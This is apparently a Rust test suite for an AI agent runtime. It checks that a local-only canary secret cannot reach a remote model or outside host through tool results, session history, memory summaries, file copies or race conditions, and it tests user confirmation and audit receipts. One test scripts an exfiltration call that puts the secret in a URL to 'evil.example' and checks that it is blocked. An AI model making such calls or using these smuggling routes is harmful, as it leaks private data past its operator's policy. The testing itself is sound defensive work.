//! What must not leave this machine, and every way it might try.
//! Owns: smuggling, confirmations, receipts. Must not: reach a network.

use crate::desk::{self, Answers, CANARY, Desk, HOST, Stuck, calls, member, notes, policy};
use countersign_memory::remembered;
use countersign_record::code::Code;
use countersign_record::deed::{self, Outcome};
use countersign_record::json::Json;
use countersign_record::row::DataClass;
use countersign_record::tool::Effect;
use countersign_runtime::ports::session::Decision;
use countersign_runtime::ports::tool::Reads;
use countersign_runtime::session::{Session, Turned};
use std::sync::Arc;

const SECRET: &str =
    r#"{"files":{"hr":"local_only"},"allow":["fs:read","fs:write","memory:read","net","shell"]}"#;
const READ: (&str, &str, &str) = ("t1", "fs.read_text", r#"{"path":"hr/pay.txt"}"#);

/// A matter with a file that never leaves.
fn desk() -> Desk {
    let mut desk = Desk::new(&[]);
    desk.policy = policy(SECRET);
    std::fs::create_dir(desk.root().join("hr")).unwrap();
    desk.put("hr/pay.txt", CANARY);
    desk
}

/// A session with a model here, which reads the secret.
async fn knowing(desk: &mut Desk, name: &str, last: &str) -> Session {
    desk.play(&[&calls("", &[READ]), last, "Done."]);
    let (mut session, _) = desk.open(name).await;
    assert_eq!(desk.say(&mut session, "What do we pay?").await.outcome, Outcome::Completed);
    assert!(desk.model.heard().contains(CANARY), "a model here may know");
    session
}

/// A turn with a model elsewhere; what it was sent.
async fn remote(desk: &mut Desk, session: &mut Session, replies: &[&str]) -> (Turned, String) {
    desk.play_remote(replies);
    session.set_office(desk.office());
    let turned = desk.say(session, "Go on.").await;
    (turned, desk.model.heard())
}

/// The last thing that happened is that nothing left.
async fn is_blocked(desk: &Desk, turned: &Turned, heard: &str) {
    assert_eq!(turned.outcome, Outcome::Failed);
    assert_eq!(turned.failure.as_ref().unwrap().code, Code::LeavingLocalOnly);
    assert!(!heard.contains(CANARY));
    let receipts = desk.of_kind(deed::EXTERNALIZED).await;
    let last = &receipts.last().unwrap().payload;
    assert_eq!(member(last, "status"), "blocked_by_policy");
    assert_eq!(member(last, "destination_ref"), format!("host:{HOST}"));
    assert_eq!(last.get("irreversible_disclosure_possible"), Some(&Json::Bool(false)));
}

#[tokio::test(flavor = "multi_thread")]
async fn not_through_a_result_in_the_same_turn() {
    for read in [
        READ,
        ("t1", "fs.read_text", r#"{"path":"./hr//pay.txt"}"#),
        ("t1", "fs.read_text", r#"{"path":"/sandbox/hr/pay.txt"}"#),
        ("t1", "fs.list_dir", r#"{"path":"hr"}"#),
        ("t1", "fs.list_dir", "{}"),
    ] {
        let mut desk = desk();
        let (mut session, _) = desk.open("s1").await;
        let (turned, heard) = remote(&mut desk, &mut session, &[&calls("", &[read]), "never"]).await;
        is_blocked(&desk, &turned, &heard).await;
        assert_eq!(desk.receipts().await, ["completed", "blocked_by_policy"], "one receipt for each");
        assert_eq!(desk.model.requests().len(), 1);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn not_through_history_or_a_reopened_session() {
    let mut desk = desk();
    let mut session = knowing(&mut desk, "s1", "I see.").await;
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    is_blocked(&desk, &turned, &heard).await;
    drop(session);
    let (mut session, _) = desk.open("s1").await;
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    is_blocked(&desk, &turned, &heard).await;
    // Nor when the turn is taken back, or the checkpoint is gone.
    session.undo().await.unwrap();
    session.undo().await.unwrap();
    session.undo().await.unwrap();
    assert_eq!(session.messages(), []);
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    is_blocked(&desk, &turned, &heard).await;
    drop(session);
    for file in ["s1.json", "s1~previous.json"] {
        std::fs::remove_file(desk.data().join("sessions").join(file)).unwrap();
    }
    let (mut session, _) = desk.open("s1").await;
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    is_blocked(&desk, &turned, &heard).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn not_after_the_message_itself_is_gone() {
    let mut desk = desk();
    desk.bounds.messages = 4;
    let repeats = notes(CANARY, &format!("{{\"set_goals\":[\"{CANARY}\"],\"actions\":[\"condense_now\"]}}"));
    let mut session = knowing(&mut desk, "s1", &repeats).await;
    desk.play(&["One.", "Two.", "Three."]);
    session.set_office(desk.office());
    for _ in 0..3 {
        desk.say(&mut session, "More.").await;
    }
    assert!(session.messages().iter().all(|message| !message.content.contains(CANARY)));
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    is_blocked(&desk, &turned, &heard).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn not_through_a_summary_in_memory() {
    let mut desk = desk();
    desk.bounds.messages = 2;
    let memory = Arc::new(remembered::Sessions::at(&desk.data().join("memory")));
    desk.remembers = Some(memory.clone());
    let mut session = knowing(&mut desk, "s1", "I see.").await;
    desk.play(&[&notes("Short.", r#"{"actions":["condense_smart"]}"#)]);
    session.set_office(desk.office());
    desk.say(&mut session, "Sum it up.").await;
    let stores = memory.stores();
    assert_eq!(stores.iter().map(|(_, class)| *class).collect::<Vec<_>>(), [DataClass::LocalOnly]);
    assert!(std::fs::read_to_string(&stores[0].0).unwrap().contains(CANARY));
    // Another session is shown it by the prompt, or by the tool.
    desk.stores = stores.iter().map(|(path, class)| (path.display().to_string(), *class)).collect();
    let (mut other, _) = desk.open("s2").await;
    desk.play_remote(&["never"]);
    other.set_office(desk.office());
    let turned = desk.say(&mut other, "What do we pay the harbour lease CANARY?").await;
    is_blocked(&desk, &turned, &desk.model.heard()).await;
    let (mut third, _) = desk.open("s3").await;
    let find = calls("", &[("t1", "memory.read", r#"{"query":"pay harbour lease"}"#)]);
    desk.play_remote(&[&find, "never"]);
    let mut office = desk.office();
    office.recall = None;
    third.set_office(office);
    let turned = desk.say(&mut third, "Go on.").await;
    assert_eq!(desk.model.requests().len(), 1, "it was asked, and not told");
    is_blocked(&desk, &turned, &desk.model.heard()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn not_through_a_copy() {
    let mut desk = desk();
    let copy = format!("{{\"path\":\"copy.txt\",\"text\":\"{CANARY}\"}}");
    let (mut other, _) = desk.open("s2").await;
    let session = knowing(&mut desk, "s1", &calls("", &[("t2", "fs.write_text", &copy)])).await;
    assert_eq!(std::fs::read_to_string(desk.root().join("copy.txt")).unwrap(), CANARY);
    drop(session);
    let read = calls("", &[("t1", "fs.read_text", r#"{"path":"copy.txt"}"#)]);
    let (turned, heard) = remote(&mut desk, &mut other, &[&read, "never"]).await;
    is_blocked(&desk, &turned, &heard).await;
    let (mut third, _) = desk.open("s3").await;
    let list = calls("", &[("t1", "fs.list_dir", r#"{"path":"."}"#)]);
    let (turned, heard) = remote(&mut desk, &mut third, &[&list, "never"]).await;
    is_blocked(&desk, &turned, &heard).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn not_through_a_copy_that_is_made_meanwhile() {
    let mut desk = desk();
    let wait = Arc::new(Waits::new());
    desk.tools.push(wait.clone());
    let read = calls("", &[("t1", "wait.here", "{}"), ("t2", "fs.read_text", r#"{"path":"copy.txt"}"#)]);
    desk.play_remote(&[&read, "never"]);
    let (mut other, _) = desk.open("s2").await;
    let model = Arc::clone(&desk.model);
    let copy = format!("{{\"path\":\"copy.txt\",\"text\":\"{CANARY}\"}}");
    let reads = calls("", &[READ]);
    let writes = calls("", &[("t2", "fs.write_text", &copy)]);
    let (mut session, _) = desk.open("s1").await;
    let mut office = desk.office();
    office.model = Arc::new(desk::Played::here(&[&reads, &writes, "Copied."]));
    session.set_office(office);
    let (turned, ()) = tokio::join!(desk.say(&mut other, "Read the copy."), async {
        wait.tool.begun.notified().await;
        desk.say(&mut session, "Copy it.").await;
        wait.goes_on.notify_one();
    });
    is_blocked(&desk, &turned, &model.heard()).await;
}

/// A tool that takes until it is told to end.
struct Waits {
    tool: Stuck,
    goes_on: tokio::sync::Notify,
}

impl Waits {
    fn new() -> Self {
        Waits { tool: Stuck::new("wait.here", Effect::None), goes_on: tokio::sync::Notify::new() }
    }
}

impl countersign_runtime::ports::tool::Tool for Waits {
    fn definition(&self) -> &countersign_record::tool::Definition {
        &self.tool.definition
    }

    fn plan(
        &self,
        args: &countersign_record::json::Object,
    ) -> Result<countersign_runtime::ports::tool::Plan, countersign_runtime::ports::tool::NotDone> {
        self.tool.plan(args)
    }

    fn run<'a>(
        &'a self,
        call: countersign_kernel::gate::Permitted,
        cancel: &'a tokio_util::sync::CancellationToken,
    ) -> countersign_runtime::ports::Answer<
        'a,
        Result<countersign_runtime::ports::tool::Done, countersign_runtime::ports::tool::NotDone>,
    > {
        Box::pin(async move {
            let done = self.tool.run(call, cancel).await;
            self.goes_on.notified().await;
            done
        })
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn not_through_an_address() {
    let mut desk = desk();
    let page = Arc::new(Stuck::of_host("page.get", "evil.example"));
    desk.tools.push(page.clone());
    let look = calls("", &[("t2", "page.get", &format!("{{\"to\":\"https://evil.example/{CANARY}\"}}"))]);
    desk.play(&[&calls("", &[READ]), &look, "I could not."]);
    let (mut session, _) = desk.open("s1").await;
    assert_eq!(desk.say(&mut session, "Look it up.").await.outcome, Outcome::Completed);
    assert_eq!(page.runs(), 0);
    assert_eq!(desk.receipts().await, ["blocked_by_policy"]);
    assert!(member(&desk.model.last(), "error").starts_with("leaving.local_only: "));
    // In the same reply, where the secret is read by the call before.
    let both = calls("", &[READ, ("t2", "page.get", "{}")]);
    desk.play(&[&both, "I could not."]);
    let (mut session, _) = desk.open("s2").await;
    desk.say(&mut session, "Look it up.").await;
    assert_eq!(page.runs(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_said_may_be_for_this_machine_alone() {
    let mut desk = desk();
    desk.policy = policy(r#"{"user_class":"local_only"}"#);
    let (mut session, _) = desk.open("s1").await;
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    is_blocked(&desk, &turned, &heard).await;
    assert_eq!(session.messages(), [], "the question can be asked again, of another model");
}

fn privileged(answers: &[Decision]) -> Desk {
    let mut desk = Desk::new(&[]);
    desk.policy = policy(r#"{"user_class":"privileged"}"#);
    desk.person = Arc::new(Answers::with(answers));
    desk
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_privileged_needs_a_persons_word() {
    let again = calls("", &[("t1", "system.time", "{}")]);
    let mut desk = privileged(&[Decision::Once, Decision::No, Decision::Session]);
    let (mut session, _) = desk.open("s1").await;
    // Once: for this turn, with all of its rounds.
    let (turned, _) = remote(&mut desk, &mut session, &[&again, "Yes."]).await;
    assert_eq!((turned.outcome, turned.rounds), (Outcome::Completed, 2));
    assert_eq!(desk.person.questions().len(), 1);
    assert_eq!(desk.person.questions()[0].capability, format!("leave:{HOST}"));
    assert_eq!(desk.person.questions()[0].tool, None);
    let receipts = desk.of_kind(deed::EXTERNALIZED).await;
    for receipt in &receipts {
        assert!(member(&receipt.payload, "user_confirmation_ref").starts_with("grant:grant_"));
        assert_eq!(receipt.data_class, DataClass::Privileged);
    }
    // Denied: nothing leaves.
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    assert_eq!(turned.failure.unwrap().code, Code::LeavingUnconfirmed);
    assert_eq!(heard, "");
    // For the session: also in the next turn, and for no other host.
    let (turned, _) = remote(&mut desk, &mut session, &[&again, "Yes."]).await;
    assert_eq!(turned.outcome, Outcome::Completed);
    let (turned, _) = remote(&mut desk, &mut session, &["Yes."]).await;
    assert_eq!(turned.outcome, Outcome::Completed);
    assert_eq!(desk.person.questions().len(), 3);
    assert_eq!(
        desk.receipts().await,
        ["completed", "completed", "blocked_by_policy", "completed", "completed", "completed"]
    );
    desk.model = Arc::new(desk::Played::remote("other.example", &["never"]));
    session.set_office(desk.office());
    let turned = desk.say(&mut session, "And you?").await;
    assert_eq!(turned.failure.unwrap().code, Code::LeavingUnconfirmed);
    assert_eq!(desk.person.questions().len(), 4);
    assert_eq!(session.state().capabilities_pending, ["leave:other.example"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn who_leaves_the_turn_confirms_nothing_and_denies_nothing() {
    let mut desk = privileged(&[Decision::Cancelled]);
    let (mut session, _) = desk.open("s1").await;
    let (turned, heard) = remote(&mut desk, &mut session, &["never"]).await;
    assert_eq!((turned.outcome, turned.failure, turned.waiting), (Outcome::Cancelled, None, 0));
    assert_eq!(heard, "");
    assert_eq!(desk.kinds("capability/s1").await, ["requested"]);
    assert_eq!(desk.receipts().await, ["blocked_by_policy"]);
    assert_eq!(desk.of_kind(deed::MODEL_ASKED).await.len(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_confirmation_for_one_call_is_for_one_call() {
    let look = calls("", &[("t1", "page.get", "{}"), ("t2", "page.get", "{}")]);
    let mut desk = privileged(&[Decision::Once]);
    desk.policy.allow.push("net".try_into().unwrap());
    let mut page = Stuck::of_host("page.get", "pages.example");
    page.reads = Reads::Outside;
    let page = Arc::new(page);
    desk.tools.push(page.clone());
    desk.play(&[&look, &look, "Yes."]);
    let (mut session, _) = desk.open("s1").await;
    desk.say(&mut session, "Look.").await;
    assert_eq!(page.runs(), 1);
    assert_eq!(desk.person.questions().len(), 4);
    let mut receipts = desk.receipts().await;
    receipts.sort();
    assert_eq!(receipts, ["blocked_by_policy", "blocked_by_policy", "blocked_by_policy", "completed"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_call_away_has_one_receipt() {
    let mut desk = Desk::new(&[]);
    let (mut session, _) = desk.open("s1").await;
    let (turned, _) = remote(&mut desk, &mut session, &["Yes."]).await;
    assert_eq!((turned.outcome, turned.commits), (Outcome::Completed, 3));
    let (turned, _) = remote(&mut desk, &mut session, &["half\u{1}fail"]).await;
    assert_eq!(turned.outcome, Outcome::Failed);
    // The process ends while the model speaks.
    desk.play_remote(&["half\u{1}hang"]);
    session.set_office(desk.office());
    let model = Arc::clone(&desk.model);
    tokio::select! {
        _ = desk.say(&mut session, "Go on.") => panic!("it hangs"),
        () = model.hangs.notified() => {}
    }
    drop(session);
    let (session, _) = desk.open("s1").await;
    assert_eq!(desk.receipts().await, ["completed", "failed", "failed"]);
    assert_eq!(desk.of_kind(deed::MODEL_ASKED).await.len(), 3);
    drop(session);
}
